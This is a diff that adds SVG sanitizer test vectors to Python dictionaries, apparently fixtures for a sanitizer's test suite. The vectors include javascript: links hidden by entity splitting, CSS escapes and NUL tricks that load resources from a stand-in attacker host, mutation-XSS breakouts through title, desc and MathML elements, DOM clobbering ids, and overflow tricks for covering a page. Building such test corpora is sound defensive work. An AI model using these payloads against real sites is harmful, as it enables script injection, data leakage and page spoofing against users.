@@ -92,6 +92,21 @@ LINKS: Final = {
     "link of MathML": svg(
         f'<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="{EVIL}/go">x</m:math>'
     ),
+    "script split by named entities": svg(
+        f'<a href="java&Tab;scr&NewLine;ipt&colon;{JS}"><rect width="90" height="90"/></a>'
+    ),
+    "link with spaces before": svg(
+        f'<a href="&#1;&#32; javascript:{JS}"><rect width="90" height="90"/></a>'
+    ),
+    "xlink on everything": svg(
+        "".join(
+            f'<{name} xlink:href="{EVIL}/{name}" href="javascript:{JS}" width="9" height="9"/>'
+            for name in words("rect g path text mask filter marker clipPath pattern stop symbol")
+        )
+    ),
+    "link by another prefix": svg(
+        f'<a xmlns:x="{_XLINK}" x:href="javascript:{JS}"><rect width="90" height="90"/></a>'
+    ),
     "animated link": svg(
         f'<a><animate attributeName="href" values="javascript:{JS}"/>'
         '<rect width="90" height="90"/></a>'
@@ -128,6 +143,15 @@ LOADS: Final = {
     "clip outside": svg(f'<rect clip-path="url({EVIL}/c.svg#c)" width="90" height="90"/>'),
     "marker outside": svg(f'<path marker-end="url({EVIL}/m.svg#m)" d="M0 0L9 9"/>'),
     "shorthand marker": svg(f'<path style="marker:url({EVIL}/m.svg#m)" d="M0 0L9 9"/>'),
+    "fill in capitals": svg(f'<rect fill="URL({EVIL}/a.svg#g)" width="90" height="90"/>'),
+    "fill behind spaces": svg(f'<rect fill=" url( \n{EVIL}/a.svg#g )" width="90" height="90"/>'),
+    "fill with NUL": svg(f'<rect style="fill:u\\0 rl({EVIL}/a)" fill="url(\\0{EVIL}/b)"/>'),
+    "attribute with an escape": svg(f'<rect fill="\\75 rl({EVIL}/a#g)" mask="u\\72l({EVIL}/b)"/>'),
+    "fill as a fallback": svg(f'<rect fill="url(#x) url({EVIL}/a.svg#g)" width="9" height="9"/>'),
+    "reference that leaves": svg(f'<use href="#a/../{EVIL}/a.svg#b"/><g fill="url(#a){EVIL})"/>'),
+    "clip by a function": svg(f"<rect clip-path=\"path('M0 0) url({EVIL}/a)\" width='9'/>"),
+    "filter by a function": svg(f'<rect filter="blur(1px) url({EVIL}/a#f)" width="9"/>'),
+    "shape-outside": svg(f'<rect style="shape-outside:url({EVIL}/a);offset-path:url({EVIL}/b)"/>'),
     "base": svg(f'<rect xml:base="{EVIL}/" fill="url(a.svg#g)" width="9" height="9"/>'),
     "XInclude": svg(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{EVIL}/a.xml"/>'),
     "style sheet instruction": f'<?xml-stylesheet href="{EVIL}/a.css"?>' + svg(""),
@@ -161,6 +185,20 @@ STYLES: Final = {
     "variable": svg("", f'style="--a:url({EVIL}/a.png);background:var(--a)"'),
     "variable joined": svg("", f"style=\"--a:'{EVIL}/a.png';background:image-set(var(--a) 1x)\""),
     "escape of url": svg("", f'style="background:\\000075rl({EVIL}/a.png)"'),
+    "escape in a name": svg("", f'style="b\\61 ckground:url({EVIL}/a.png)"'),
+    "NUL in a style": svg(
+        "", f'style="background\\0:url({EVIL}/a.png);b\x00ackground:url({EVIL}/b)"'
+    ),
+    "string in a style": svg("", f'style="fill:red;background:\'a;background:url({EVIL}/a)"'),
+    "nested rules": svg(
+        f"<style>svg{{&amp; rect{{fill:url({EVIL}/a#b)}} @media all{{p{{color:red}}}}}}</style>"
+    ),
+    "namespace rule": svg(
+        "<style>@namespace h url(http://www.w3.org/1999/xhtml);h|p{color:red!important}</style>"
+    ),
+    "charset rule": svg(f"<style>@charset 'utf-7';@import+ACI-{EVIL}/a.css+ACIAOw-</style>"),
+    "host rule": svg("<style>:root,:host,html,body,:is(p){color:red!important}</style>"),
+    "animation by style": svg("", 'style="animation:x 1s;transition:all 1s;color:red"'),
     "comment in url": svg("", f'style="background:u/**/rl({EVIL}/a.png)"'),
     "selector that leaks": svg(
         f'<style>rect[width^="3"]{{fill:url({EVIL}/leak#a)}} '
@@ -201,6 +239,33 @@ BOXES: Final = {
     ),
     "huge stroke": svg('<path d="M0 0H1" stroke="red" stroke-width="1e9"/>'),
     "huge text": svg('<text font-size="4000" fill="red">W</text>'),
+    "negative viewBox": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="-9e9 -9e9 1e-9 -1" '
+    'width="90" height="90"><rect x="-9e9" y="-9e9" width="9e9" height="9e9" fill="red"/></svg>',
+    "viewBox that covers nothing": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" '
+    'preserveAspectRatio="xMidYMid slice" width="90" height="9"><circle r="99" fill="red"/></svg>',
+    "filter with a huge region": svg(
+        '<filter id="f" x="-900%" y="-900%" width="2000%" height="2000%"><feFlood '
+        'flood-color="red"/></filter><rect width="9" height="9" filter="url(#f)"/>'
+    ),
+    "huge shadow": svg('<rect width="9" height="9" style="filter:drop-shadow(150px 0 9px red)"/>'),
+    "moved group": svg('<g transform="translate(150 0)"><rect width="90" height="90"/></g>'),
+    "text that runs out": svg(f'<text x="9" y="50" fill="red" font-size="40">{"W" * 90}</text>'),
+    "marker with overflow": svg(
+        '<marker id="m" overflow="visible"><circle r="900" fill="red"/></marker>'
+        '<path d="M0 0L9 9" marker-end="url(#m)"/>'
+    ),
+    "symbol with overflow": svg(
+        '<symbol id="s" style="overflow:visible" viewBox="0 0 1 1"><circle r="900"/></symbol>'
+        '<use href="#s" width="9" height="9"/>'
+    ),
+    "size by style": svg("", 'style="width:5000px;height:5000px;min-width:100vw;zoom:9;scale:9"'),
+    "size in other units": svg("", "").replace('width="90"', 'width="900vw"'),
+    "layers": svg("", 'style="z-index:9;position:sticky;float:left;translate:90px;rotate:45deg"'),
+    "whole picture clipped": svg("", 'clip-path="path(\'M-99 -99H999V999Z\')" overflow="visible"'),
+    "whole picture masked": svg(
+        '<mask id="m" x="-9" y="-9" width="99" height="99"><rect fill="#fff"/></mask>',
+        'mask="url(#m)" style="overflow:visible;mix-blend-mode:difference;isolation:auto"',
+    ),
     "pointer": svg("", 'style="cursor:wait;pointer-events:all;position:absolute;inset:0"'),
 }
 BREAKOUTS: Final = {
@@ -225,6 +290,22 @@ BREAKOUTS: Final = {
         "<desc><math><mtext><mglyph><style><!--</style>"
         f"<img src='{EVIL}/a'></mglyph></mtext></math></desc>"
     ),
+    "mutation by an annotation": svg(
+        f"<desc><math><annotation-xml encoding='text/html'><img src='{EVIL}/a'/></annotation-xml>"
+        "</math></desc>"
+    ),
+    "mutation by a style in a title": svg(
+        f'<title><style><!--</style><img title="--&gt;&lt;img src={EVIL}/a&gt;"/></title>'
+    ),
+    "mutation by a namespace": svg(
+        f"<title xmlns='{_XHTML}'><img src='{EVIL}/a'/></title>"
+        f"<desc>&lt;/desc>&lt;img src={EVIL}/b></desc>"
+    ),
+    "mutation by escapes": svg(
+        f"<title>&amp;lt;img src={EVIL}/a&amp;gt;&amp;amp;lt;img src={EVIL}/b&amp;amp;gt;</title>"
+    ),
+    "mutation by an end in a label": svg("", f"aria-label='&lt;/svg&gt;&lt;img src={EVIL}/a&gt;'"),
+    "text that HTML reads raw": svg(f"<text><![CDATA[<style><img src='{EVIL}/a'>]]></text>"),
     "foreignObject": svg(html(f"<img src='x:' onerror=\"{JS}\"/>")),
     "foreignObject in small letters": svg(f"<foreignobject><img src='{EVIL}/a'/></foreignobject>"),
     "frame": svg(html(f'<iframe src="javascript:{JS}"></iframe>')),
@@ -236,6 +317,9 @@ BREAKOUTS: Final = {
 NAMES: Final = {
     "clobbering": svg('<g id="cookie"/><g id="getElementById"/><g id="body"/><g id="location"/>'),
     "clobbering of the page": svg('<g id="probe" class="probe"/><g id="host"/>'),
+    "clobbering by the whole": svg("", 'id="body" name="cookie"'),
+    "clobbering by names": svg('<g id="forms" name="probe"/><text id="title" name="body">a</text>'),
+    "clobbering of prototypes": svg('<g id="__proto__"/><g id="constructor"/><g id="probe&#10;"/>'),
     "names that collide": svg('<rect id="a"/><rect id="a"/>'),
 }
 DOCUMENT_TYPES: Final = {
